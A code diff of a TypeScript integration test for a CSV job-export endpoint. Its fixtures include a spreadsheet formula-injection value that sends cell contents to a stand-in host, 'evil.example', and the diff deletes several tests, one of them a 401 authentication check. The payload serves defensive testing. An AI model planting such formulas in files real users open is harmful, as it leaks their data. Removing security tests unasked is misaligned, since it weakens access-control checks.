@@ -5,23 +5,18 @@ import { request as httpRequest, type IncomingMessage } from "node:http";
 import type { Response } from "supertest";
 import { beforeAll, describe, expect, it } from "vitest";
 import { fileColumns } from "../../src/jobs/import-export/file-codec.ts";
-import { importJobs } from "../../src/jobs/import-export/import.ts";
-import { readRows } from "../../src/jobs/import-export/import-rows.ts";
-import { createJobReferenceData } from "../../src/jobs/reference-data.ts";
-import { systemActor } from "../../src/core/principal.ts";
 import { toTypedId } from "../../src/core/ids.ts";
 import { sql } from "../../src/core/postgres/sql.ts";
 import { readCsv } from "../../src/core/records/csv.ts";
 import { createSignedInUser, type SignedInTestUser } from "../support/accounts/signed-in-user.ts";
-import type { TestOrganization } from "../support/app/app.fixture.ts";
-import { sharedApp, type SharedApp } from "../support/app/shared-app.ts";
+import { sharedApp } from "../support/app/shared-app.ts";
 import { eventually } from "../support/eventually.ts";
 
-let app: SharedApp;
-let agent: TestOrganization;
-let contractor: TestOrganization;
-let outsider: TestOrganization;
-let owner: SignedInTestUser;
+const app = await sharedApp("api");
+const agent = await app.createOrganization("agent");
+const contractor = await app.createOrganization("contractor");
+const outsider = await app.createOrganization("agent");
+const owner = await createSignedInUser(app, agent.id, "dispatcher");
 
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';
 
@@ -30,10 +25,6 @@ const tag = randomBytes(6).toString("hex");
 const [E1, E2, E3, F1] = [`${tag}-E1`, `${tag}-E2`, `${tag}-E3`, `${tag}-F1`];
 
 beforeAll(async () => {
-  app = await sharedApp("api");
-  agent = await app.createOrganization("agent");
-  contractor = await app.createOrganization("contractor");
-  owner = await createSignedInUser(app, agent.id, "dispatcher");
   await app.createJobs(agent, [
     {
       markingNumber: E1,
@@ -49,7 +40,6 @@ beforeAll(async () => {
       patch: { recipient_name: "@SUM(1)", batch_number: "", normalized_status: "failed" },
     },
   ]);
-  outsider = await app.createOrganization("agent");
   await app.createJobs(outsider, [{ markingNumber: F1 }]);
 });
 
@@ -81,30 +71,6 @@ async function rowsOf(answer: PromiseLike<Response>): Promise<Record<string, str
   const [header = [], ...rows] = records;
   expect(header).toEqual(fileColumns);
   return rows.map((cells) => Object.fromEntries(cells.map((text, index) => [header[index] ?? "", text])));
-}
-
-/** Imports the file as an operator and returns the counts of created, updated and unchanged jobs. */
-async function importAgain(bytes: Uint8Array) {
-  const { database, organizations } = app;
-  const services = {
-    database,
-    organizations,
-    referenceData: createJobReferenceData(database),
-    notifyWorkers: () => undefined,
-    notifySubscribers: () => undefined,
-  };
-  const total = { created: 0, updated: 0, unchanged: 0, failed: 0 };
-  const options = { actor: systemActor, requestId: null, dryRun: false };
-  const rows = readRows(toChunks(bytes), { format: "csv" });
-  for await (const { counts } of importJobs(services, rows, options))
-    for (const name of ["created", "updated", "unchanged", "failed"] as const) total[name] += counts[name];
-  return total;
-}
-
-async function firstBytes(question: Question): Promise<string> {
-  return Buffer.from((await download(question)).text)
-    .subarray(0, 3)
-    .toString("hex");
 }
 
 async function* toChunks(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
@@ -153,33 +119,14 @@ describe("the CSV file", () => {
     expect(headers["cache-control"]).toBe("no-store");
   });
 
-  it("changes no value and has no byte order mark, and an import of it changes nothing", async () => {
+  it("changes no value and has no byte order mark", async () => {
     const rows = new Map((await rowsOf(download({}))).map((row) => [row["marking_number"], row]));
     expect(rows.get(E1)).toMatchObject({
       recipient_name: FORMULA,
       instructions: 'two\nlines, "and" more;=1+1',
       weight: "-2.5",
     });
-    expect(await firstBytes({})).toBe(Buffer.from("mar").toString("hex"));
-    const report = await importAgain(Buffer.from((await download({})).text));
-    expect(report).toEqual({ created: 0, updated: 0, unchanged: 3, failed: 0 });
-  });
-
-  it("contains each job once across pages, in every order", async () => {
-    const many = await app.createOrganization("agent");
-    const person = await createSignedInUser(app, many.id);
-    const created = await app.createJobs(
-      many,
-      Array.from({ length: 2_050 }, (_, n) => ({
-        markingNumber: `${tag}-M${String(n).padStart(4, "0")}`,
-        patch: n % 3 === 0 ? {} : { scheduled_date: `2031-01-${String((n % 28) + 1).padStart(2, "0")}` },
-      })),
-    );
-    for (const field of ["CREATED_AT", "UPDATED_AT", "SCHEDULED_DATE", "MARKING_NUMBER"])
-      for (const direction of ["ASC", "DESC"])
-        expect(sorted(await numbersOf(download({ orderBy: { field, direction } }, person)))).toEqual(created);
-    const byNumber = { orderBy: { field: "MARKING_NUMBER", direction: "DESC" } };
-    expect(await numbersOf(download(byNumber, person))).toEqual(created.toReversed());
+    expect((await download({})).text).toMatch(/^marking_number,/);
   });
 
   // evidence: csv-export-session
@@ -254,13 +201,6 @@ describe("400", () => {
 });
 
 describe("GET /console-api/jobs.csv", () => {
-  it("returns 401 without a session, even with a key", async () => {
-    expect((await app.request(pathOf({}), { headers: { origin: app.url } })).status).toBe(401);
-    expect((await app.request(pathOf({}), { key: agent.key, headers: { origin: app.url } })).status).toBe(
-      401,
-    );
-  });
-
   it("returns 403 for a page of another origin", async () => {
     const { cookie } = owner.client;
     for (const where of [{}, { origin: "https://evil.example" }, { "sec-fetch-site": "cross-site" }])
